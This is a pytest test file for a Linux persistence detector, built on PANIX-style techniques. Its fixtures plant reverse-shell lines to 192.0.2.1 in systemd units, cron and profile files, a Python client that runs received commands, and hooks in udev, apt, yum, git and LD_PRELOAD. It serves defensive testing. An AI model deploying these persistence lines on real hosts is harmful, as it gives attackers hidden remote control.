"""Every persistence technique of PANIX that is text, set up as files that nobody runs: found, with a remedy."""

from pathlib import Path
from typing import NamedTuple

import pytest

from tests.fixtures.autostart_roots import DETACHED, SHELL, judge, make_root, named, own, write

UNIT = """[Unit]
Description=x

[Service]
ExecStart=/usr/bin/bash -c 'bash -i >& /dev/tcp/192.0.2.1/9 0>&1'
Restart=always

[Install]
WantedBy=default.target
"""
TIMER = "[Unit]\nDescription=x\n[Timer]\nOnCalendar=*:*:00\n[Install]\nWantedBy=timers.target\n"
AT_JOB = f"""#!/bin/sh
# atrun uid=0 gid=0
# mail root 0
umask 22
PATH=/usr/bin:/bin; export PATH
cd /root || {{
\t echo 'Execution directory inaccessible' >&2
\t exit 1
}}
{SHELL}
"""
GENERATOR = """#!/bin/sh
cat <<-EOL > "/run/systemd/system/generator.service"
[Service]
ExecStart=/usr/lib/systemd/system-generators/makecon
EOL
exit 0
"""
YUM = "import os\ndef pretrans_hook(conduit):\n\tos.system('setsid /usr/lib/yumcon 2>/dev/null & ')\n"
OBEYS = """#!/usr/bin/env python
def connect(host_port):
\timport socket
\ts = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
\ts.connect(host_port)
\treturn s
def wait_for_command(s):
\timport subprocess
\tdata = s.recv(1024)
\tproc = subprocess.Popen(data, shell=True)
"""
ENTRY = "[Desktop Entry]\nExec="
PLUGINS = "usr/lib/python3.11/site-packages"


class Case(NamedTuple):
    files: dict[str, str]
    found: dict[str, str]  # path, and the line if it is one -> remedy


CASES = {
    "at": Case({"var/spool/cron/atjobs/a0000101": AT_JOB}, {"/var/spool/cron/atjobs/a0000101": "quarantine_file"}),
    "cron": Case(
        {"etc/cron.d/freedesktop_timesync1": f"* * * * * root {SHELL}\n"},
        {"/etc/cron.d/freedesktop_timesync1:1": "remove_line"},
    ),
    "cron of a user": Case(
        {"var/spool/cron/crontabs/ann": f"# m h\n0 3 * * * /usr/bin/touch x\n* * * * * {SHELL}\n"},
        {"/var/spool/cron/crontabs/ann:3": "remove_line"},
    ),
    "crontab": Case({"etc/crontab": f"* * * * * {SHELL}\n"}, {"/etc/crontab:1": "remove_line"}),
    "cron.daily": Case({"etc/cron.daily/evil": f"#!/bin/bash\n{SHELL}\n"}, {"/etc/cron.daily/evil": "quarantine_file"}),
    "systemd": Case(
        {
            "usr/local/lib/systemd/system/dbus-org.freedesktop.resolved.service": UNIT,
            "usr/local/lib/systemd/system/dbus-org.freedesktop.resolved.timer": TIMER,
        },
        {
            "/usr/local/lib/systemd/system/dbus-org.freedesktop.resolved.service": "remove_service",
            "/usr/local/lib/systemd/system/dbus-org.freedesktop.resolved.timer": "remove_service",
        },
    ),
    "systemd of a user": Case(
        {"home/ann/.config/systemd/user/dbus-org.freedesktop.resolved.service": UNIT},
        {"/home/ann/.config/systemd/user/dbus-org.freedesktop.resolved.service": "remove_service"},
    ),
    "drop-in": Case(
        {"etc/systemd/system/ssh.service.d/x.conf": f"[Service]\nExecStartPost=-{SHELL}\n"},
        {"/etc/systemd/system/ssh.service.d/x.conf": "remove_service"},
    ),
    "generator": Case(
        {
            "usr/lib/systemd/system-generators/makecon": f'#!/bin/bash\nnohup bash -c "while :; do {SHELL}; done" &\n',
            "usr/lib/systemd/system-generators/generator": GENERATOR,
        },
        {
            "/usr/lib/systemd/system-generators/makecon": "quarantine_file",
            "/usr/lib/systemd/system-generators/generator": "quarantine_file",
        },
    ),
    "init.d": Case(
        {"etc/init.d/ssh-procps": f"#! /bin/sh\n### BEGIN INIT INFO\n# Provides: ssh\n### END INIT INFO\n{DETACHED}\n"},
        {"/etc/init.d/ssh-procps": "remove_service"},
    ),
    "rc.local": Case({"etc/rc.local": f"#!/bin/bash\n/usr/bin/touch x\n{SHELL}\n"}, {"/etc/rc.local:3": "remove_line"}),
    "profile": Case(
        {"etc/profile": "umask 22\n(nohup bash -i > /dev/tcp/192.0.2.1/9 0<&1 2>&1 &)\n"},
        {"/etc/profile:2": "remove_line"},
    ),
    "profile of a user": Case(
        {"home/ann/.bash_profile": "(nohup bash -i > /dev/tcp/192.0.2.1/9 0<&1 2>&1 &)\n"},
        {"/home/ann/.bash_profile:1": "remove_line"},
    ),
    "xdg": Case(
        {
            "etc/xdg/autostart/pkc12-register.desktop": f"{ENTRY}/etc/xdg/pkc12-register\n",
            "etc/xdg/pkc12-register": f"#!/bin/bash\n{SHELL}\n",
        },
        {
            "/etc/xdg/autostart/pkc12-register.desktop": "quarantine_file",
            "/etc/xdg/pkc12-register": "quarantine_file",
        },
    ),
    "xdg of a user": Case(
        {
            "home/ann/.config/autostart/user-dirs.desktop": f"{ENTRY}/home/ann/.config/autostart/.user-dirs\n",
            "home/ann/.config/autostart/.user-dirs": f"#!/bin/bash\n{SHELL}\n",
        },
        {
            "/home/ann/.config/autostart/user-dirs.desktop": "quarantine_file",
            "/home/ann/.config/autostart/.user-dirs": "quarantine_file",
        },
    ),
    "udev, as sedexp": Case(
        {"etc/udev/rules.d/10-sedexp.rules": 'ACTION=="add", KERNEL=="random", RUN+="/bin/touch /tmp/sedexp"\n'},
        {"/etc/udev/rules.d/10-sedexp.rules:1": "remove_line"},
    ),
    "udev and at": Case(
        {
            "usr/bin/atest": f"#!/bin/sh\n{DETACHED} &\n",
            "etc/udev/rules.d/11-atest.rules": 'SUBSYSTEM=="net", RUN+="/usr/bin/at -M -f /usr/bin/atest now"\n',
        },
        {"/usr/bin/atest": "quarantine_file", "/etc/udev/rules.d/11-atest.rules:1": "remove_line"},
    ),
    "udev and cron": Case(
        {
            "usr/bin/crontest": f"#!/bin/sh\n{DETACHED} &\n",
            "etc/udev/rules.d/11-crontest.rules": (
                'SUBSYSTEM=="net", RUN+="/bin/bash -c \'echo \\"* * * * * /usr/bin/crontest\\" | crontab -\'"\n'
            ),
        },
        {"/usr/bin/crontest": "quarantine_file", "/etc/udev/rules.d/11-crontest.rules:1": "remove_line"},
    ),
    "udev and systemd": Case(
        {
            "etc/systemd/system/systemdtest.service": UNIT,
            "etc/udev/rules.d/12-systemdtest.rules": (
                'SUBSYSTEM=="net", KERNEL!="lo", TAG+="systemd", ENV{SYSTEMD_WANTS}+="systemdtest.service"\n'
            ),
        },
        {
            "/etc/systemd/system/systemdtest.service": "remove_service",
            "/etc/udev/rules.d/12-systemdtest.rules:1": "remove_line",
        },
    ),
    "udev from a temporary place": Case(
        {"etc/udev/rules.d/10-backdoor.rules": 'SUBSYSTEM=="net", RUN+="/usr/bin/at -M -f /tmp/payload now"\n'},
        {"/etc/udev/rules.d/10-backdoor.rules:1": "remove_line"},
    ),
    "motd": Case(
        {"etc/update-motd.d/137-python-upgrades": f"#!/bin/sh\n{DETACHED} & disown\n"},
        {"/etc/update-motd.d/137-python-upgrades": "quarantine_file"},
    ),
    "network manager": Case(
        {"etc/NetworkManager/dispatcher.d/panix-dispatcher.sh": f"#!/bin/sh -e\nexport IFACE\n{DETACHED} & disown\n"},
        {"/etc/NetworkManager/dispatcher.d/panix-dispatcher.sh": "quarantine_file"},
    ),
    "apt": Case(
        {"etc/apt/apt.conf.d/01python-upgrades": f'APT::Update::Pre-Invoke {{"({DETACHED} > /dev/null 2>&1 &) &"}};\n'},
        {"/etc/apt/apt.conf.d/01python-upgrades": "quarantine_file"},
    ),
    "yum": Case(
        {"usr/lib/yum-plugins/yumcon.py": YUM, "usr/lib/yumcon": OBEYS},
        {"/usr/lib/yum-plugins/yumcon.py": "quarantine_file", "/usr/lib/yumcon": "quarantine_file"},
    ),
    "dnf": Case(
        {
            f"{PLUGINS}/dnf-plugins/dnfcon.py": YUM.replace("/usr/lib/yumcon", f"/{PLUGINS}/dnfcon"),
            f"{PLUGINS}/dnfcon": OBEYS,
        },
        {f"/{PLUGINS}/dnf-plugins/dnfcon.py": "quarantine_file", f"/{PLUGINS}/dnfcon": "quarantine_file"},
    ),
    "a package's script, run by cron": Case(
        {
            "var/lib/dpkg/info/panix.postinst": f"#!/bin/sh\n{DETACHED} &\n",
            "var/spool/cron/crontabs/root": "*/1 * * * * /var/lib/dpkg/info/panix.postinst configure > /dev/null\n",
        },
        {"/var/lib/dpkg/info/panix.postinst": "quarantine_file", "/var/spool/cron/crontabs/root:1": "remove_line"},
    ),
    "a unit that loads a library": Case(
        {"etc/systemd/system/x.service": "[Service]\nEnvironment=LD_PRELOAD=/usr/lib/x.so\nExecStart=/bin/bash\n"},
        {"/etc/systemd/system/x.service": "remove_service"},
    ),
    "git hook": Case(
        {"home/ann/src/app/.git/hooks/pre-commit": f"#!/bin/bash\n({DETACHED} > /dev/null 2>&1 &) &\n"},
        {"/home/ann/src/app/.git/hooks/pre-commit": "quarantine_file"},
    ),
    "git pager": Case(
        {"home/ann/src/app/.git/config": f"[core]\n        pager = {DETACHED} > /dev/null 2>&1 & ${{PAGER:-less}}\n"},
        {"/home/ann/src/app/.git/config:2": "remove_line"},
    ),
    "git pager of a user": Case(
        {"home/ann/.gitconfig": f"[user]\n\tname = Ann\n[core]\n        pager = {DETACHED} & ${{PAGER:-less}}\n"},
        {"/home/ann/.gitconfig:4": "remove_line"},
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", CASES)
def test_a_technique_is_found_with_its_remedy(tmp_path: Path, name: str) -> None:
    root = make_root(tmp_path)
    write(root, CASES[name].files)
    found = named(judge(root))
    assert {where: finding.remedy for where, finding in found.items()} == CASES[name].found
    for finding in found.values():
        assert finding.first_seen is not None
        assert finding.attack or finding.indicator == "autostart-runs-found"


@pytest.mark.parametrize("name", CASES)
def test_a_technique_is_found_where_nothing_counts_as_new(tmp_path: Path, name: str) -> None:
    root = make_root(tmp_path)
    write(root, {"etc/machine-id": "0" * 32, **CASES[name].files})
    assert set(named(judge(root))) == set(CASES[name].found)


def test_a_payload_added_to_a_packages_own_script_is_a_line_of_it(tmp_path: Path) -> None:
    root = make_root(tmp_path)
    own(root, "ssh", {"etc/init.d/ssh": "#!/bin/sh\nexit 0\n"}, conffiles=("etc/init.d/ssh",))
    assert judge(root) == ()
    write(root, {"etc/init.d/ssh": f"#!/bin/sh\nexit 0\n{DETACHED}\n"})
    assert {where: f.remedy for where, f in named(judge(root)).items()} == {"/etc/init.d/ssh:3": "remove_line"}
